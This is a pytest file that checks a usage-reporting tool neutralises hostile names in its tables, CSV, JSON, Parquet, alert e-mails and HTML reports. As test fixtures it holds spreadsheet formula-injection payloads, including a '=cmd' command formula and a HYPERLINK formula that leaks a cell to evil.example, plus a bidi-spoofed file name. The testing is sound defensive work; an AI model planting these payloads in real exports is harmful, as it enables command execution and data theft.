"""Hostile names (issue 21.1): the simulator's hostile-names organization through every view, export, `sql`,
the alert e-mail text and the HTML report.

Its workspaces, API keys, tags and users carry ESC sequences, OSC-8 links, BEL, NUL, U+FFFE, U+202E,
newlines, spreadsheet formulas and a 1,000,000-character key name (`simulator.organization.HOSTILE_*`).
Text for people must carry no control character, bidi override or non-character, no forged row, no line
wider than the terminal; CSV no formula cell unless `--raw-csv`; JSON and Parquet the exact strings.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, timedelta
from decimal import Decimal

import pyarrow.parquet as pq
import pytest
from support import NOW, TODAY, backfill, incremental, ingest

from usage_lake import words
from usage_lake.alerts.publishers import OutboxPublisher
from usage_lake.app.cli import main
from usage_lake.config.settings import Settings
from usage_lake.lake import LocalLake
from usage_lake.reporting import views
from usage_lake.reporting.formats import render
from usage_lake.reporting.html import build_report, render_html
from usage_lake.sanitize import CSV_TRIGGERS
from usage_lake.simulator import SimulatedOrg, Simulator
from usage_lake.simulator.organization import HOSTILE_KEYS

NOW_FLAG = ["--now", "2026-11-23T14:30:00Z"]
VIEWS = ("summary", "daily", "models", "workspaces", "keys", "projects", "claude-code", "alerts")
# what must never reach a terminal, an e-mail or a chart: C0/C1 controls (but the line break), DEL, bidi controls,
# zero-width and other format characters, non-characters
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\ufffe\uffff]")
LONG = HOSTILE_KEYS[5]
csv.field_size_limit(2_000_000)  # CSV and JSON keep the 1,000,000-character name whole


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Nov 16 - 22 back-filled with every report (names, users, Claude Code), then an incremental run at NOW with a
    $1 daily threshold, so an alert e-mail ranks the hostile keys."""
    org = SimulatedOrg.hostile()
    lake = LocalLake(tmp_path_factory.mktemp("hostile") / "lake")
    everything = ("usage", "cost", "claude_code", "organization", "workspaces", "api_keys", "users", "invites", "workspace_members")
    with Simulator(org, now=NOW) as sim:
        assert ingest(backfill(TODAY - timedelta(days=7), TODAY, everything), sim=sim, lake=lake).outcome == "succeeded"
        settings = Settings(base_url=sim.base_url, daily_spend_threshold_usd=Decimal(1))
        record = ingest(incremental(reports=everything), sim=sim, lake=lake, settings=settings, publisher=OutboxPublisher(lake))
        assert record.outcome == "succeeded"
    return org, lake


@pytest.fixture(autouse=True)
def quiet_env(monkeypatch):
    for name in ("LAKE_BUCKET", "LAKE_PREFIX", "DAILY_SPEND_THRESHOLD_USD", "MONTHLY_BUDGET_USD", "SPIKE_RATIO", "ALERT_TOPIC_ARN",
                 "BUDGETS", "LABELS"):
        monkeypatch.delenv(name, raising=False)


def cli(capsys, *argv: str) -> str:
    code = main(list(argv))
    captured = capsys.readouterr()
    assert code == 0, captured.err
    return captured.out


def assert_safe_text(text: str, where: str, *, width: int | None = None) -> None:
    found = UNSAFE.search(text)
    assert found is None, f"{where}: {found.group()!r} at {found.start()}: {text[max(0, found.start() - 40):found.start() + 40]!r}"
    assert LONG[:1000] not in text, f"{where}: the 1,000,000-character name is not cut"
    for line in text.splitlines():
        assert "FAKE ROW" not in line or "batch-worker" in line, f"{where}: a newline in a name forged a row: {line!r}"
        if width is not None:
            assert len(line) <= width, f"{where}: {len(line)} columns: {line!r}"


def assert_no_formula(text: str, where: str) -> int:
    """Every cell of the CSV: none starts like a formula. The number of neutralised cells (`'=...`)."""
    neutralised = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not (cell.startswith(CSV_TRIGGERS) and not _number(cell)), f"{where}: formula cell {cell[:60]!r}"
            neutralised += cell.startswith("'") and cell[1:2] in CSV_TRIGGERS
    return neutralised


def _number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("view", VIEWS)
def test_every_view_as_a_table_is_safe_to_print(hostile, capsys, view):
    org, lake = hostile
    out = cli(capsys, "report", view, "--lake", str(lake.root), "--days", "7", "--wide", *NOW_FLAG)
    assert_safe_text(out, f"report {view}")
    compact = cli(capsys, "report", view, "--lake", str(lake.root), "--days", "7", *NOW_FLAG)
    assert_safe_text(compact, f"report {view} (compact)")


def test_the_forged_row_prints_as_one_row_and_names_read_as_written(hostile, capsys):
    org, lake = hostile
    out = cli(capsys, "report", "keys", "--lake", str(lake.root), "--days", "7", "--wide", *NOW_FLAG)
    forged = [line for line in out.splitlines() if "FAKE ROW" in line]
    assert len(forged) == 1 and "batch-worker\\x0aFAKE ROW" in forged[0]
    assert "invoice\\u202egnp.exe" in out  # the override is shown, not obeyed
    assert "=cmd|' /C calc'!A0" in out  # a table is not a spreadsheet: the text as written
    assert "kkkk…" in out  # the long name, cut


@pytest.mark.parametrize("view", [v for v in VIEWS if v != "alerts"])
def test_every_view_as_csv_has_no_formula_cell_unless_raw(hostile, capsys, view):
    org, lake = hostile
    text = cli(capsys, "report", view, "--lake", str(lake.root), "--days", "7", "--format", "csv", *NOW_FLAG)
    neutralised = assert_no_formula(text, f"report {view} --format csv")
    if view == "keys":
        assert neutralised >= 2  # '=cmd..., '+1-2@3
        rows = list(csv.DictReader(io.StringIO(text)))
        assert "'=cmd|' /C calc'!A0" in {r["api_key_name"] for r in rows}
        raw = cli(capsys, "report", view, "--lake", str(lake.root), "--days", "7", "--format", "csv", "--raw-csv", *NOW_FLAG)
        assert "=cmd|' /C calc'!A0" in {r["api_key_name"] for r in csv.DictReader(io.StringIO(raw))}


def test_json_keeps_the_exact_names(hostile, capsys):
    org, lake = hostile
    rows = json.loads(cli(capsys, "report", "keys", "--lake", str(lake.root), "--days", "7", "--format", "json", *NOW_FLAG))["rows"]
    names = {r["api_key_name"] for r in rows}
    assert set(HOSTILE_KEYS) <= names and LONG in names
    assert words.NO_API_KEY in names


@pytest.mark.parametrize("table", ["usage_messages", "cost_report", "api_keys", "workspaces", "users", "claude_code_usage"])
def test_export_csv_has_no_formula_cell_and_parquet_keeps_the_bytes(hostile, capsys, tmp_path, table):
    org, lake = hostile
    start, end = (TODAY - timedelta(days=7)).isoformat(), (TODAY + timedelta(days=1)).isoformat()
    out = tmp_path / f"{table}.csv"
    cli(capsys, "export", table, "--lake", str(lake.root), "--start", start, "--end", end, "--out", str(out))
    text = out.read_text(encoding="utf-8")
    neutralised = assert_no_formula(text, f"export {table}")
    if table in ("usage_messages", "api_keys"):
        assert neutralised > 0
    raw = tmp_path / f"{table}-raw.csv"
    cli(capsys, "export", table, "--lake", str(lake.root), "--start", start, "--end", end, "--out", str(raw), "--raw-csv")
    if table in ("usage_messages", "api_keys"):
        assert "=cmd|' /C calc'!A0" in raw.read_text(encoding="utf-8")
    parquet = tmp_path / f"{table}.parquet"
    cli(capsys, "export", table, "--lake", str(lake.root), "--start", start, "--end", end, "--out", str(parquet), "--format", "parquet")
    if table == "api_keys":
        assert set(HOSTILE_KEYS) <= set(pq.read_table(parquet).column("name").to_pylist())


def test_sql_csv_and_table_are_neutralised(hostile, capsys):
    org, lake = hostile
    query = "SELECT id, name, length(name) AS n FROM api_keys ORDER BY n"
    text = cli(capsys, "sql", query, "--lake", str(lake.root), "--format", "csv")
    assert assert_no_formula(text, "sql --format csv") >= 2
    table = cli(capsys, "sql", query, "--lake", str(lake.root))
    assert_safe_text(table, "sql table")
    assert "1000000" in table  # numbers untouched
    raw = cli(capsys, "sql", query, "--lake", str(lake.root), "--format", "csv", "--raw-csv")
    assert "\n=cmd" not in raw and ",=cmd|' /C calc'!A0," in raw
    data = json.loads(cli(capsys, "sql", query, "--lake", str(lake.root), "--format", "json"))
    assert LONG in {r["name"] for r in data["rows"]}


def test_summary_runs_and_alerts_commands_are_safe(hostile, capsys):
    org, lake = hostile
    for argv in (["summary", "--days", "7", *NOW_FLAG], ["runs"], ["alerts"]):
        assert_safe_text(cli(capsys, *argv, "--lake", str(lake.root)), " ".join(argv))


def test_the_alert_email_text_is_safe(hostile):
    org, lake = hostile
    sent = [json.loads(lake.get(k)) for k in lake.list("alerts/outbox/")]
    assert sent, "the $1 threshold sent no alert"
    ranked = [m for m in sent if "Top API keys" in m["text"]]
    assert ranked
    for message in sent:
        assert_safe_text(message["subject"], "alert subject")
        assert_safe_text(message["text"], "alert text")
    assert any("invoice\\u202egnp.exe" in m["text"] for m in ranked)


@pytest.mark.parametrize("width", [80, 120])
def test_compact_tables_fit_the_terminal(hostile, width):
    """At 80 and 120 columns no line of any view is wider, and no two columns touch (a space between cells)."""
    org, lake = hostile
    window = views.Window.last(7, TODAY)
    with views.open_for(lake, window) as db:
        built = [views.summary(db, TODAY), views.daily(db, window), views.models(db, window), views.workspaces(db, window),
                 views.keys(db, window), views.projects(db, window), views.claude_code(db, window)]
    for view in built:
        text = render(view, "table", width=width)
        assert_safe_text(text, f"{view.name} at {width}", width=width)
        lines = text.splitlines()
        header = lines[next(i for i, line in enumerate(lines) if line.startswith("─")) - 1]
        shown = [c for c in view.columns if view.compact is None or c.name in view.compact]
        cells = re.split(r"\s{2,}", header.strip())  # rich puts 3 spaces between columns; headers hold single spaces
        assert len(cells) == len(shown), f"{view.name} at {width}: columns touch in {header!r}"
        for cell, column in zip(cells, shown, strict=True):
            assert cell == column.header or (cell.endswith("…") and column.header.startswith(cell[:-1])), (cell, column.header)
        wide = render(view, "table", wide=True)
        assert all(c.header in wide for c in view.columns), f"{view.name}: --wide lacks a column"


@pytest.mark.parametrize("width", [80, 120])
def test_summary_runs_and_alerts_fit_the_terminal(hostile, width):
    """`summary`'s day, model, workspace and key tables, `runs` and `alerts` (days and budgets) at 80 and 120 columns."""
    from usage_lake.alerts import Alerting
    from usage_lake.config.budgets import parse_budgets
    from usage_lake.reporting import recent_runs, spend_and_tokens

    org, lake = hostile
    days = [TODAY - timedelta(days=i) for i in range(6, -1, -1)]
    assert_safe_text(spend_and_tokens(lake, days, today=TODAY, width=width), "summary", width=width)
    assert_safe_text(recent_runs(lake, width=width), "runs", width=width)
    budgets = parse_budgets(json.dumps({"budgets": [{"name": "a-rather-long-budget-name-for-the-growth-team", "period": "monthly",
                                         "amount": "100", "scope": {"workspace": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"}},
                                        {"name": "tokens", "period": "weekly", "measure": "output_tokens", "amount": "1000000"}]}))
    settings = Settings(daily_spend_threshold_usd=Decimal(1), monthly_budget_usd=Decimal(100))
    alerting = Alerting(lake, settings, publisher=None, run_id="status", clock=lambda: NOW, budgets=budgets)
    text = "\n".join(alerting.status(days, NOW, width=width))
    assert_safe_text(text, "alerts", width=width)
    assert "WOULD FIRE" in text and "Budgets (each open period):" in text
    wide = "\n".join(alerting.status(days, NOW, wide=True))
    assert "priority est." in wide and "forecast" in wide


def test_the_html_report_renders_without_aborting(hostile, tmp_path):
    """The chart renderer aborted the process (SIGABRT) on a control character; the page is escaped and safe."""
    org, lake = hostile
    report = build_report(lake, today=TODAY, days=7, budget=Decimal(1000))
    page = render_html(report)
    found = UNSAFE.search(page.replace("\n", " "))
    assert found is None, f"{found.group()!r} in the page"
    assert LONG[:1000] not in page
    (tmp_path / "hostile.html").write_text(page, encoding="utf-8")
    keys_chart = next(c for c in report.charts if c.key == "top-keys")
    bars = keys_chart.spec["datasets"] if "datasets" in keys_chart.spec else {}
    labels = [b["name"] for data in bars.values() for b in data] or [b["name"] for b in keys_chart.spec["data"]["values"]]
    assert len(labels) == len(set(labels))  # two keys never one bar


def test_the_html_report_in_chromium(hostile, tmp_path):
    import os
    import shutil

    chromium = os.environ.get("USAGE_LAKE_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
    if not os.path.exists(chromium):
        if os.environ.get("USAGE_LAKE_REQUIRE_BROWSER") == "1":
            pytest.fail(f"no Chromium at {chromium}")
        pytest.skip(f"no Chromium at {chromium}")
    from playwright.sync_api import sync_playwright

    org, lake = hostile
    path = tmp_path / "hostile.html"
    path.write_text(render_html(build_report(lake, today=TODAY, days=7)), encoding="utf-8")
    problems: list[str] = []
    requests: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--headless", "--disable-gpu",
                                                                    "--disable-dev-shm-usage", "--no-first-run"])
        try:
            page = browser.new_page()
            page.on("request", lambda r: requests.append(r.url))
            page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: problems.append(str(e)))
            page.on("dialog", lambda d: problems.append(f"dialog {d.message}"))
            page.goto(path.as_uri(), wait_until="load")
            text = page.evaluate("document.body.innerText")
            charts = page.evaluate("document.querySelectorAll('figure.chart svg').length")
        finally:
            browser.close()
    assert problems == [] and [u for u in requests if not u.startswith("file:")] == []
    assert charts >= 5
    assert UNSAFE.search(text.replace("\t", " ")) is None  # innerText puts a tab between table cells
    assert "FAKE ROW" in text and "invoice\\u202egnp.exe" in text


def test_the_simulated_names_are_hostile():
    names = SimulatedOrg.hostile().directory.key_names().values()
    assert any("\x1b" in n for n in SimulatedOrg.hostile().directory.workspace_names().values() if n)
    assert any("\u202e" in n for n in names) and any(len(n) == 1_000_000 for n in names)
    assert date(2026, 11, 23) == TODAY
